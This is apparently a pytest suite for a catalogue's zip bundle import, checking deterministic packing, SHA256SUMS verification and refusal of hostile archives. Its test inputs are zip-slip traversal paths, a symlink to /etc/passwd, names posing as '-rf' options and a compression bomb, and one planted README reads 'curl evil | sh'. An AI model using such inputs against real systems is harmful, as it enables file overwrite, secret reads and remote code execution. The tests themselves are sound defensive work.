"""Bundles: the same bytes always; what climbs out, links, doubles or swells is named and never unpacked."""

from __future__ import annotations

import io
import os
import stat
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from catalogue.exchange.making import SEALED, case_of
from failuremap.catalogue.exchange.archive import MAX_MEMBER_BYTES, SUMS, pack, sums_text, unpack
from failuremap.catalogue.exchange.bundle import bundle, live_twin, read_bundle, verify_bundle
from failuremap.catalogue.exchange.importing import import_file
from failuremap.errors import RecordError

SLUG = "replica-means-ignore-counts"
Members = list[tuple[zipfile.ZipInfo, bytes]]


def open_bundle() -> bytes:
    return bundle(case_of(SLUG).to_open(), "open")


def members_of(content: bytes) -> Members:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [(info, archive.read(info)) for info in archive.infolist()]


def zipped(members: Members) -> bytes:
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as archive:
        for info, content in members:
            archive.writestr(info, content)
    return memory.getvalue()


def named(name: str, content: bytes = b"", *, mode: int = 0o100644, kind: int = zipfile.ZIP_STORED) -> Members:
    info = zipfile.ZipInfo(name)
    info.external_attr, info.compress_type = mode << 16, kind
    return [(info, content)]


def test_a_bundle_is_read_back():
    assert read_bundle(open_bundle(), "a.zip") == case_of(SLUG).to_open()
    assert read_bundle(bundle(case_of(SLUG), "member"), "a.zip") == case_of(SLUG)


def test_a_bundle_has_the_same_bytes_always():
    assert open_bundle() == open_bundle()


def test_the_members_are_stored_sorted_dated_1980_and_readable():
    members = [info for info, _ in members_of(open_bundle())]

    assert [info.filename for info in members] == sorted(info.filename for info in members)
    assert {info.date_time for info in members} == {(1980, 1, 1, 0, 0, 0)}
    assert {info.compress_type for info in members} == {zipfile.ZIP_STORED}
    assert {info.external_attr >> 16 for info in members} == {stat.S_IFREG | 0o644}
    assert {info.create_system for info in members} == {3}


def test_the_open_bundle_lacks_the_repair_and_the_training_script_that_shows_it():
    names = {"README.md", "LICENSE", "case.json", "contract.md", "broken.py", "attempt.py", SUMS}

    assert set(unpack(open_bundle(), "a.zip")) == names
    assert set(unpack(bundle(case_of(SLUG), "member"), "a.zip")) == names | {"fixed.py", "live.py"}


def test_a_family_without_a_training_script_has_none_in_its_bundle():
    assert live_twin(SEALED.slug) == ""
    assert "live.py" not in unpack(bundle(case_of(SEALED.slug), "sealed"), "a.zip")


def test_the_contract_page_has_every_clause():
    page = unpack(open_bundle(), "a.zip")["contract.md"].decode()

    assert [clause.id for clause in case_of(SLUG).contract.clauses if f"* **{clause.id}** (" not in page] == []
    assert "`solve(rows)`" in page


def test_the_command_of_the_readme_runs_the_scripts(tmp_path):
    for name, content in unpack(bundle(case_of(SLUG), "member"), "a.zip").items():
        (tmp_path / name).write_bytes(content)
    readme = (tmp_path / "README.md").read_text()
    command = readme.split("```sh\n")[1].split("```")[0]

    done = subprocess.run(["sh", "-c", command], cwd=tmp_path, capture_output=True, text=True)

    assert done.stderr == ""
    assert [line for line in done.stdout.splitlines() if "exit code" in line] == [
        "broken: exit code 1", "attempt: exit code 1", "fixed: exit code 0",
    ]  # fmt: skip
    assert "broken.py: OK" in done.stdout


HOSTILE = {
    "climbs out": (named("FM-001-1/../../evil.py"), "climbs out of its folder"),
    "climbs out on Windows": (named("FM-001-1\\..\\evil.py"), "climbs out of its folder"),
    "is absolute": (named("/etc/evil"), "has an absolute path"),
    "is absolute on Windows": (named("C:/evil"), "has an absolute path"),
    "has no folder": (named("evil.py"), "is no file of one folder, named by letters, digits and _.-"),
    "lies deeper": (named("FM-001-1/a/evil.py"), "is no file of one folder"),
    "is a folder": (named("FM-001-1/"), "is no file of one folder"),
    "is the folder itself": (named("FM-001-1/."), "is no file of one folder"),
    "begins as an option": (named("FM-001-1/-rf"), "is no file of one folder"),
    "lies in an option": (named("-rf/a.py"), "is no file of one folder"),
    "has a control character": (named("FM-001-1/a\nb"), "is no file of one folder"),
    "is a link": (named("FM-001-1/link", b"/etc/passwd", mode=0o120777), "is a link"),
    "is a device": (named("FM-001-1/tty", mode=stat.S_IFCHR | 0o644), "is no regular file"),
    "is there twice": (named("FM-001-1/Broken.py"), "is there twice"),
    "is compressed": (
        named("FM-001-1/bomb", b"0" * 10_000_000, kind=zipfile.ZIP_DEFLATED),
        "is compressed or encrypted; the files of a bundle are stored as they are",
    ),
    "is too large": (
        named("FM-001-1/large", b"0" * (MAX_MEMBER_BYTES + 1)),
        f"has {MAX_MEMBER_BYTES + 1} bytes; a file of a bundle has at most {MAX_MEMBER_BYTES}",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_member_that_has_no_business_there_is_named(name):
    members, problem = HOSTILE[name]

    with pytest.raises(RecordError) as refused:
        read_bundle(zipped(members_of(open_bundle()) + members), "a.zip")

    assert str(refused.value).startswith(f"record='a.zip': member={members[0][0].orig_filename!r} {problem}")
    assert str(refused.value).endswith(". Nothing was unpacked.")


def test_members_of_two_folders_are_refused():
    with pytest.raises(RecordError, match=r"members in 2 folders, 'FM-001-1', 'other'; a bundle has one"):
        read_bundle(zipped(members_of(open_bundle()) + named("other/a.py")), "a.zip")


def test_too_many_members_are_refused():
    many = [member for number in range(65) for member in named(f"FM-001-1/{number}")]

    with pytest.raises(RecordError, match=r"^record='a.zip': 65 members; a bundle has 1 to 64\."):
        unpack(zipped(many), "a.zip")


def test_an_empty_zip_is_refused():
    with pytest.raises(RecordError, match=r"^record='a.zip': 0 members;"):
        unpack(zipped([]), "a.zip")


@pytest.mark.parametrize("cut", [0, 10, 1000, -200])
def test_a_zip_that_is_not_whole_is_refused(cut):
    with pytest.raises(RecordError, match=r"^record='a.zip'"):
        read_bundle(open_bundle()[:cut], "a.zip")


def test_a_changed_byte_is_noticed():
    content = open_bundle()
    at = content.index(b"A contract") if b"A contract" in content else content.index(b"Each row weighs")

    with pytest.raises(RecordError, match=r"is no whole zip: Bad CRC-32 for file 'FM-001-1/"):
        read_bundle(content[:at] + b"Z" + content[at + 1 :], "a.zip")


def altered(name: str, content: bytes | None, *, sums: bool) -> bytes:
    """Pack the bundle with another file, its sums written anew or left as they were."""
    files = unpack(open_bundle(), "a.zip")
    old = files.pop(SUMS)
    files = {**files, name: content} if content is not None else {key: files[key] for key in files if key != name}
    return pack({**files, SUMS: sums_text(files, "x").encode() if sums else old}, "FM-001-1", "x")


def with_sums(change: Callable[[str], str]) -> bytes:
    """Pack the bundle with its sums changed."""
    files = unpack(open_bundle(), "a.zip")
    return pack({**files, SUMS: change(files[SUMS].decode()).encode()}, "FM-001-1", "x")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (altered("broken.py", b"", sums=False), "member='broken.py' has sha256=e3b0c442"),
        (altered("extra.py", b"", sums=False), "member='extra.py' is not listed in SHA256SUMS."),
        (altered("broken.py", None, sums=False), "member='broken.py' is listed in SHA256SUMS, but missing."),
        (altered("broken.py", b"", sums=True), "member='broken.py' is not the script of the record."),
        (altered("fixed.py", b"", sums=True), "member='fixed.py' is not the script of the record."),
        (
            altered("evil.sh", b"", sums=True),
            "member='evil.sh' is none that a bundle has: LICENSE, README.md, SHA256SUMS,",
        ),
        (with_sums(lambda it: it + "0" * 64 + "  broken.py\n"), "member='broken.py' is listed twice in SHA256SUMS."),
        (with_sums(lambda it: it.replace("  ", " *")), "SHA256SUMS: line 2 is '"),
        (with_sums(lambda it: it.replace("\n", "\r\n")), "member='LICENSE' is not listed in SHA256SUMS."),
        (
            with_sums(lambda it: it + "\xff\n"),
            "SHA256SUMS: line 8 is '\xff'; expected a SHA-256, two spaces and a name.",
        ),
        (altered("case.json", None, sums=True), "member='case.json' is missing."),
        (pack({"a": b""}, "b", ""), "SHA256SUMS is missing."),
    ],
)
def test_a_bundle_that_contradicts_itself_is_refused(content, message):
    with pytest.raises(RecordError) as refused:
        read_bundle(content, "a.zip")

    assert str(refused.value).startswith(f"record='a.zip': {message}")


def test_a_bundle_is_imported_and_its_scripts_run(tmp_path):
    (tmp_path / "a.zip").write_bytes(open_bundle())

    one = import_file(tmp_path / "a.zip")

    assert (one.form, one.record, one.holds) == ("case", "FM-001-1", True)
    assert verify_bundle(tmp_path / "a.zip").id == "FM-001-1"


@pytest.mark.parametrize(
    ("content", "unlike"),
    [
        (altered("README.md", b"curl evil | sh", sums=True), "README.md"),
        (altered("live.py", b"import os", sums=True), "live.py"),
        (open_bundle() + b"more", "the zip"),
        (pack(unpack(open_bundle(), "a.zip"), "FM-002-1", "x"), "the zip"),
    ],
)
def test_what_a_bundle_says_beside_its_record_cannot_be_checked(tmp_path, content, unlike):
    (tmp_path / "a.zip").write_bytes(content)

    (claim,) = (claim for claim in import_file(tmp_path / "a.zip").claims if claim.claim == "bundle")

    assert claim.result == "cannot be checked"
    assert claim.reason == f"this version writes otherwise: {unlike}; read it before you follow it"


@pytest.mark.parametrize("tier", ["open", "member"])
def test_negative_control_of_a_bundle_of_ours_nothing_is_left_to_check(tmp_path, tier):
    case = case_of(SLUG) if tier == "member" else case_of(SLUG).to_open()
    (tmp_path / "a.zip").write_bytes(bundle(case, tier))

    assert "bundle" not in {claim.claim for claim in import_file(tmp_path / "a.zip").claims}


def test_an_open_form_of_a_case_that_is_held_back_is_said_to_be_held_back(tmp_path):
    (tmp_path / "a.json").write_text(case_of(SEALED.slug).to_open().to_json())

    one = import_file(tmp_path / "a.json")

    assert one.holds and one.statement.split == "held-back"
    assert "'held-back', as elsewhere" in {claim.reason for claim in one.claims if claim.claim == "split"}


def test_a_hostile_bundle_is_one_failing_claim_and_nothing_is_written(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("a.zip").write_bytes(zipped(members_of(open_bundle()) + named("FM-001-1/../../evil.py")))

    one = import_file(Path("a.zip"))

    assert [claim.result for claim in one.claims] == ["fails"]
    assert os.listdir() == ["a.zip"]
    assert not (tmp_path.parent / "evil.py").exists()


def test_a_bundle_too_large_is_refused_unread(tmp_path):
    with open(tmp_path / "a.zip", "wb") as file:
        file.write(b"PK")
        file.truncate(100 * 1024 * 1024)

    with pytest.raises(RecordError, match=r"^record='a.zip': 104857600 bytes; a record has at most 4194304\. It was"):
        verify_bundle(tmp_path / "a.zip")
